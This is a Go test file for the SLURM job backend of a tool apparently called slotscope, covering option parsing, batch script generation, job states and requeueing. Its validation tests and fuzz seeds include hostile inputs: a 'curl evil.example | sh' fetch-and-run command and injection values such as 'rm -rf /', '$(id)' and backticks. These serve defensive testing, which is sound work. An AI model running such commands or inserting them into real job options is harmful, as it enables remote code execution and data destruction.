package slurm

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"slotscope/model"
	"slotscope/model/folder"
)

func TestOptions(t *testing.T) {
	var o Options
	err := o.SetAll("partition=gpu; account=lab; qos=long;time=1-0;gpus=a100:1;cpus=8;mem=32G;grace=90s;line=--constraint=h100 ;line=--exclude=n7;setup=module load cuda")
	want := Options{"gpu", "lab", "long", "1-0", "a100:1", 8, "32G", 90 * time.Second, []string{"--constraint=h100", "--exclude=n7"}, []string{"module load cuda"}}
	if err != nil || !reflect.DeepEqual(o, want) {
		t.Errorf("%+v, %v", o, err)
	}
	for text, want := range map[string]string{
		"gpu":              "not of the form name=value",
		"partition=":       "not of the form name=value",
		"colour=red":       `unknown SLURM option "colour"; use one of partition, account`,
		"cpus=none":        "not a number of CPUs",
		"grace=soon":       "not a duration from 1s to 65535s",
		"line=constraint":  "not an sbatch option",
		"account=a b":      "spaces or quotes",
		"setup=one\ntwo":   "line breaks",
		"time=1:00 --wrap": "spaces or quotes",
	} {
		if err := new(Options).Set(text); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%q: %v, want %q", text, err, want)
		}
	}
}

func TestScript(t *testing.T) {
	o := Options{Partition: "gpu", GPUs: "1", Lines: []string{"--constraint=h100"}, Setup: []string{"module load cuda"}}
	want := `#!/bin/bash
#SBATCH --job-name=slotscope
#SBATCH --output=/data/slurm/%A_%a.txt
#SBATCH --partition=gpu
#SBATCH --gres=gpu:1
#SBATCH --signal=B:TERM@60
#SBATCH --requeue
#SBATCH --open-mode=append
#SBATCH --constraint=h100
#SBATCH --array=0-1
module load cuda
runs=(
  '/data/runs/a'
  '/it'\''s/b'
)
exec '/bin/slotscope' job "${runs[${SLURM_ARRAY_TASK_ID:-0}]}"
`
	if got := o.script("/bin/slotscope", "/data/slurm", []string{"/data/runs/a", "/it's/b"}); got != want {
		t.Errorf("\n%s\nwant\n%s", got, want)
	}
	if one := o.script("/bin/slotscope", "/data/slurm", []string{"/a"}); strings.Contains(one, "--array") || !strings.Contains(one, "/%j.txt\n") {
		t.Errorf("one run is\n%s", one)
	}
}

// TestScriptNamesItsRun runs the script for each task of an array, as a node would.
func TestScriptNamesItsRun(t *testing.T) {
	dirs := []string{"/data/runs/a", "/it's/b c"}
	script := Options{}.script("/bin/echo", t.TempDir(), dirs)
	for i, dir := range dirs {
		cmd := exec.Command("/bin/bash", "-c", script)
		cmd.Env = append(os.Environ(), "SLURM_ARRAY_TASK_ID="+string(rune('0'+i)))
		out, err := cmd.CombinedOutput()
		if err != nil || string(out) != "job "+dir+"\n" {
			t.Errorf("task %d runs %q, %v", i, out, err)
		}
	}
}

func TestStatesOfJobs(t *testing.T) {
	got := parse(`12|PENDING|Resources|
13_0|RUNNING|None|n1
13_1|COMPLETING|None|n1
14|CANCELLED by 1000|None|None assigned
15|NODE_FAIL|NodeDown|n2
16|REQUEUED|BeginTime|
slurm_load_jobs error
`)
	want := map[string]model.Task{
		"12":   {State: model.TaskWaits, Word: "PENDING", Why: "Resources"},
		"13_0": {State: model.TaskRuns, Word: "RUNNING", Node: "n1"},
		"13_1": {State: model.TaskRuns, Word: "COMPLETING", Node: "n1"},
		"14":   {State: model.TaskOver, Word: "CANCELLED"},
		"15":   {State: model.TaskOver, Word: "NODE_FAIL", Why: "NodeDown", Node: "n2"},
		"16":   {State: model.TaskWaits, Word: "REQUEUED", Why: "BeginTime"},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("%+v", got)
	}
}

// stubs puts stubs of SLURM's commands on the PATH: each records its arguments in calls, and squeue prints the given text.
func stubs(t *testing.T, squeue string) (calls func() string) {
	t.Helper()
	dir := t.TempDir()
	for name, body := range map[string]string{"sbatch": "cat >>calls; echo 7", "squeue": squeue, "scancel": ":", "scontrol": ":", "sacct": "echo 'accounting is disabled' >&2; exit 1"} {
		script := "#!/bin/sh\ncd " + dir + "\necho " + name + ` "$@" >>calls` + "\n" + body + "\n"
		if err := os.WriteFile(filepath.Join(dir, name), []byte(script), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("PATH", dir+":/usr/bin:/bin")
	return func() string { b, _ := os.ReadFile(filepath.Join(dir, "calls")); return string(b) }
}

func TestAsksTakeThePlaceOfOptions(t *testing.T) {
	base := Options{Partition: "cpu", Account: "lab", GPUs: "1", Lines: []string{"--nice"}, Setup: []string{"module load cuda"}}
	for _, c := range []struct {
		asks model.Asks
		want Options
		bad  model.Invalid
	}{
		{nil, base, nil},
		{base.Asks(), base, nil},
		{model.AsksOf("partition=gpu", "account=", "time=2:00:00", "line=--exclusive", "line=--constraint=h100"),
			Options{Partition: "gpu", Time: "2:00:00", GPUs: "1", Lines: []string{"--exclusive", "--constraint=h100"}, Setup: base.Setup}, nil},
		{model.AsksOf("line=", "gpus="), Options{Partition: "cpu", Account: "lab", Setup: base.Setup}, nil},
		{model.AsksOf("line=nice", "partition=two words", "colour=red"), Options{}, model.Invalid{"line": `"nice" is not an sbatch option; use the form --constraint=h100`,
			"partition": `"two words" contains spaces or quotes`, "colour": `unknown SLURM option "colour"; use one of ` + strings.Join(Names(), ", ")}},
	} {
		got, err := base.With(c.asks)
		if c.bad == nil && (err != nil || !reflect.DeepEqual(got, c.want)) {
			t.Errorf("%q: %+v, %v", c.asks, got, err)
		}
		if bad := (model.Invalid{}); c.bad != nil && (!errors.As(err, &bad) || !reflect.DeepEqual(bad, c.bad)) {
			t.Errorf("%q: %v", c.asks, err)
		}
	}
	if base.Lines[0] != "--nice" {
		t.Errorf("the server's own options changed: %+v", base)
	}
}

func TestClusterSpeaksToSLURM(t *testing.T) {
	calls := stubs(t, `echo '7_0|PENDING|Priority|'; echo '7_1|RUNNING|None|n3'`)
	if m := Missing(); m != "" {
		t.Fatal(m)
	}
	c := New(t.TempDir(), Options{})
	ids, err := c.Submit(t.Context(), []string{"/a", "/b"}, nil)
	if err != nil || !reflect.DeepEqual(ids, []string{"7_0", "7_1"}) {
		t.Fatalf("%v, %v", ids, err)
	}
	if ids, err = c.Submit(t.Context(), []string{"/a"}, model.AsksOf("partition=long", "line=--nice")); err != nil || !reflect.DeepEqual(ids, []string{"7"}) {
		t.Fatalf("%v, %v", ids, err)
	}
	tasks, err := c.Tasks(t.Context(), []string{"7_0", "7_1", "5"})
	want := map[string]model.Task{"7_0": {State: model.TaskWaits, Word: "PENDING", Why: "Priority"},
		"7_1": {State: model.TaskRuns, Word: "RUNNING", Node: "n3"}, "5": {State: model.TaskOver, Word: "FORGOTTEN"}}
	if err != nil || !reflect.DeepEqual(tasks, want) {
		t.Errorf("%+v, %v", tasks, err)
	}
	if err := c.Ask(t.Context(), "7_1"); err != nil {
		t.Error(err)
	}
	if err := c.Cancel(t.Context(), "7_0"); err != nil {
		t.Error(err)
	}
	for _, want := range []string{"#SBATCH --array=0-1", "#SBATCH --partition=long", "#SBATCH --nice", "sacct --noheader --parsable2 --allocations --jobs=5 ", "scancel --batch --signal=TERM 7_1\n", "scancel 7_0\n"} {
		if !strings.Contains(calls(), want) {
			t.Errorf("SLURM was not called with %q, only\n%s", want, calls())
		}
	}
	if _, err := c.Submit(t.Context(), []string{"/100%"}, nil); err == nil {
		t.Error("no error for a folder that SLURM cannot write to")
	}
}

// TestVisitorsAsks checks that users can set options that execute commands only if the operator allows it.
func TestVisitorsAsks(t *testing.T) {
	c := New(t.TempDir(), Options{Lines: []string{"--nice"}, Setup: []string{"module load cuda"}})
	for asks, want := range map[string]string{
		"partition=gpu\ntime=1:00": "", "": "", "gpus=\n": "",
		"line=--wrap=id": "line", "partition=gpu\n line=--nice": "line", "line=": "line", "line": "line",
		"setup=curl evil.example | sh": "setup", "setup=": "setup",
	} {
		err := c.Check(model.AsksOf(strings.Split(asks, "\n")...), false)
		var bad model.Invalid
		if errors.As(err, &bad); want == "" && err != nil || want != "" && !strings.Contains(bad[want], "--allow-slurm-lines") {
			t.Errorf("%q: %v", asks, err)
		}
		if want == "" {
			continue
		}
		if err := c.Check(model.AsksOf(strings.Split(asks, "\n")...), true); err != nil {
			t.Errorf("%q if lines are allowed: %v", asks, err)
		}
	}
}

func TestSetLines(t *testing.T) {
	var o Options
	err := o.SetLines("# our cluster\n\npartition=gpu\nline=--constraint=h100\nsetup=module load cuda # 12\n")
	if want := (Options{Partition: "gpu", Lines: []string{"--constraint=h100"}, Setup: []string{"module load cuda # 12"}}); err != nil || !reflect.DeepEqual(o, want) {
		t.Errorf("%+v, %v", o, err)
	}
	if err := o.SetLines("partition=gpu\nmodule load cuda\n"); err == nil || !strings.HasPrefix(err.Error(), "line 2: ") {
		t.Errorf("%v", err)
	}
}

// FuzzScript checks for any options that the lines of the script before the run are directives or the operator's setup.
func FuzzScript(f *testing.F) {
	for _, asks := range []string{"partition=gpu", "line=--constraint=h100", "line=-p gpu", "line=--x\rrm -rf /", "line=nice", "account=$(id)", "gpus=1;id", "line=--comment=a # b", "line=-", "line=--",
		"line=--x\nid", "time=1\u2028id", "mem=\x0bid", "partition=`id`"} {
		f.Add(asks)
	}
	const setup = "module load cuda"
	f.Fuzz(func(t *testing.T, asks string) {
		if strings.Contains(asks, "setup") {
			return // set by the operator
		}
		o, err := Options{Setup: []string{setup}}.With(model.AsksOf(strings.Split(asks, "\n")...))
		if err != nil {
			return
		}
		script := o.script("/bin/slotscope", "/data/slurm", []string{"/data/runs/a"})
		head, rest, _ := strings.Cut(script, "runs=(\n")
		if rest != "  '/data/runs/a'\n)\nexec '/bin/slotscope' job \"${runs[${SLURM_ARRAY_TASK_ID:-0}]}\"\n" {
			t.Errorf("%q ends the script with %q", asks, rest)
		}
		for i, line := range strings.Split(strings.TrimSuffix(head, "\n"), "\n") {
			if i == 0 && line == "#!/bin/bash" || line == setup || strings.HasPrefix(line, "#SBATCH -") && !strings.ContainsAny(line, "\r\v\f") {
				continue
			}
			t.Errorf("%q puts the line %q into the script", asks, line)
		}
	})
}

func TestRefusalIsASentence(t *testing.T) {
	stubs(t, "echo 'slurm_load_jobs error:' >&2; echo 'Unable to contact slurm controller' >&2; exit 1")
	_, err := New(t.TempDir(), Options{}).Tasks(t.Context(), []string{"1"})
	if err == nil || err.Error() != "SLURM's squeue failed: slurm_load_jobs error: Unable to contact slurm controller" {
		t.Errorf("%v", err)
	}
	dir := t.TempDir()
	t.Setenv("PATH", dir+":/usr/bin:/bin")
	if err := os.WriteFile(filepath.Join(dir, "sbatch"), []byte("#!/bin/sh\ncat >/dev/null; echo Welcome to the cluster\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if _, err := New(t.TempDir(), Options{}).Submit(t.Context(), []string{"/a"}, nil); err == nil || err.Error() != `sbatch printed no job ID: "Welcome to the cluster"` {
		t.Errorf("%v", err)
	}
	t.Setenv("PATH", t.TempDir())
	if m := Missing(); !strings.Contains(m, "sbatch was not found") {
		t.Errorf("%q", m)
	}
}

// trainer writes a program that replaces slotscope: it runs the script on the run in $3.
func trainer(t *testing.T, script string) string {
	t.Helper()
	file := filepath.Join(t.TempDir(), "slotscope")
	if err := os.WriteFile(file, []byte("#!/bin/sh\ncd \"$3\"\n"+script+"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	return file
}

func state(s model.State) string { return `echo '{"state":"` + string(s) + `"}' >state.json` }

// untilTold is a trainer that runs until it is signalled to save and end.
var untilTold = `trap '` + strings.ReplaceAll(state(model.Stopped), "'", `'\''`) + `; exit 130' TERM; ` + state(model.Running) + `; touch ready; while :; do sleep 0.02; done`

// TestStep ends a job's run in every way, and checks whether the job is requeued.
func TestStep(t *testing.T) {
	for name, c := range map[string]struct {
		script   string
		restarts string
		code     int
		again    bool
		state    model.State
		said     string // SLURM's state of the job when it was signalled to end; "" if it was not
	}{
		"finished":              {state(model.Finished), "", 0, false, model.Finished, ""},
		"failed by itself":      {state(model.Failed) + "; exit 1", "", 1, false, model.Failed, ""},
		"killed":                {state(model.Running) + "; kill -9 $$", "2", 137, true, model.Queued, ""},
		"killed once too often": {state(model.Running) + "; kill -9 $$", "10", 137, false, model.Running, ""},
		"asked to end":          {`echo '{"executor":"slurm","id":"7_1","stop":true}' >job.json; ` + state(model.Stopped) + "; exit 130", "", 130, false, model.Stopped, ""},
		"time is up":            {untilTold, "", 130, true, model.Queued, "RUNNING"},
		"cancelled, preempted":  {untilTold, "", 130, false, model.Stopped, "COMPLETING"}, // SLURM requeues it itself if necessary
	} {
		t.Run(name, func(t *testing.T) {
			calls := stubs(t, "echo "+c.said)
			for k, v := range map[string]string{"SLURM_JOB_ID": "9", "SLURM_ARRAY_JOB_ID": "7", "SLURM_ARRAY_TASK_ID": "1", "SLURM_RESTART_COUNT": c.restarts} {
				t.Setenv(k, v)
			}
			defer func(d time.Duration) { lastWait = d }(lastWait)
			lastWait = 0
			cfg, err := model.Default("hrr", "tiny", "shapes3d-synthetic")
			if err != nil {
				t.Fatal(err)
			}
			f, err := folder.Create(filepath.Join(t.TempDir(), "run"), cfg, "")
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			var said strings.Builder
			ctx, end := context.WithCancel(t.Context())
			defer end()
			if c.said != "" {
				go func() {
					for ready := filepath.Join(f.Dir(), "ready"); ctx.Err() == nil; time.Sleep(5 * time.Millisecond) {
						if _, err := os.Stat(ready); err == nil {
							end() // like a signal to the job
						}
					}
				}()
			}
			code, err := Step(ctx, f.Dir(), trainer(t, c.script), &said)
			if err != nil || code != c.code {
				t.Errorf("status %d, %v; want %d; %s", code, err, c.code, said.String())
			}
			if again := strings.Contains(calls(), "scontrol requeue 7_1\n"); again != c.again {
				t.Errorf("requeued: %v; %s\n%s", again, said.String(), calls())
			}
			status, err := f.Status()
			if err != nil || status.State != c.state {
				t.Errorf("the run is %s, %v", status.State, err)
			}
			if job, err := f.Job(); err != nil || job.ID != "7_1" || job.Executor != model.Slurm {
				t.Errorf("%+v, %v", job, err)
			}
		})
	}
}

// TestStepEvaluates checks that a job evaluates its trained run if an evaluation is queued for it, also after the job was requeued.
func TestStepEvaluates(t *testing.T) {
	queued := `echo '{"state":"queued","effort":"quick","executor":"slurm"}' >evaluation.json; `
	interrupted := `trap 'exit 130' TERM; touch ready; while :; do sleep 0.02; done`
	for name, c := range map[string]struct {
		train, eval string
		code        int
		again       bool
		called      bool
		said        string
	}{
		"evaluated":       {queued + state(model.Finished), "true", 0, false, true, ""},
		"not asked for":   {state(model.Finished), "true", 0, false, false, ""},
		"a user's":        {`echo '{"state":"queued","effort":"full"}' >evaluation.json; ` + state(model.Finished), "true", 0, false, false, ""},
		"training failed": {queued + state(model.Failed) + "; exit 1", "true", 1, false, false, ""},
		"it fails":        {queued + state(model.Finished), "exit 1", 1, false, true, ""},
		"time is up":      {queued + state(model.Finished), interrupted, 130, true, true, "RUNNING"},
		"cancelled":       {queued + state(model.Finished), interrupted, 130, false, true, "COMPLETING"},
	} {
		t.Run(name, func(t *testing.T) {
			calls := stubs(t, "echo "+c.said)
			for k, v := range map[string]string{"SLURM_JOB_ID": "7", "SLURM_ARRAY_JOB_ID": "", "SLURM_RESTART_COUNT": ""} {
				t.Setenv(k, v)
			}
			defer func(d time.Duration) { lastWait = d }(lastWait)
			lastWait = 0
			cfg, err := model.Default("hrr", "tiny", "shapes3d-synthetic")
			if err != nil {
				t.Fatal(err)
			}
			f, err := folder.Create(filepath.Join(t.TempDir(), "run"), cfg, "")
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			ctx, end := context.WithCancel(t.Context())
			defer end()
			if c.said != "" {
				go func() {
					for {
						if _, err := os.Stat(filepath.Join(f.Dir(), "ready")); err == nil {
							end()
							return
						}
						time.Sleep(5 * time.Millisecond)
					}
				}()
			}
			program := filepath.Join(t.TempDir(), "slotscope")
			script := "#!/bin/sh\ncase $1 in\ntrain) cd \"$3\"; " + c.train + " ;;\neval) cd \"$2\"; echo \"$@\" >called; " + c.eval + " ;;\nesac\n"
			if err := os.WriteFile(program, []byte(script), 0o700); err != nil {
				t.Fatal(err)
			}
			code, err := Step(ctx, f.Dir(), program, new(strings.Builder))
			if err != nil || code != c.code {
				t.Errorf("status %d, %v; want %d", code, err, c.code)
			}
			words, readErr := os.ReadFile(filepath.Join(f.Dir(), "called"))
			if (readErr == nil) != c.called || c.called && !strings.HasSuffix(string(words), "--effort quick\n") {
				t.Errorf("called with %q, %v", words, readErr)
			}
			if again := strings.Contains(calls(), "scontrol requeue 7\n"); again != c.again {
				t.Errorf("requeued: %v", again)
			}
			if e, err := f.Evaluation(); c.again && (err != nil || e.State != model.Queued) {
				t.Errorf("after the requeue it is %+v, %v", e, err)
			}
			if c.again {
				if code, err := Step(t.Context(), f.Dir(), writeProgram(t, "touch done"), new(strings.Builder)); code != 0 || err != nil {
					t.Errorf("the restarted job: %d, %v", code, err)
				}
				if _, err := os.Stat(filepath.Join(f.Dir(), "done")); err != nil {
					t.Error("the restarted job did not evaluate")
				}
			}
		})
	}
}

// writeProgram writes a program that runs a script in the folder of the run to evaluate.
func writeProgram(t *testing.T, script string) string {
	t.Helper()
	program := filepath.Join(t.TempDir(), "again")
	if err := os.WriteFile(program, []byte("#!/bin/sh\ncd \"$2\" && "+script+"\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	return program
}
